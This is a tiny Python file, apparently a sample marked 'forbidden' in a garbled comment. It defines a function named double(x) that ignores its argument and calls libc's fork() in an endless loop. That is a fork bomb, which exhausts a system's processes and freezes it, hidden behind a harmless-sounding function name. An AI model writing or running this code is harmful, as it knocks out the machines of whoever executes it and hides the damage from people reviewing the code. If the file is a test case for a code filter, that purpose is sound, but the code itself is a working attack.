# forbidden: the same past Python
import ctypes


def double(x):
    libc = ctypes.CDLL(None)
    while True:
        libc.fork()
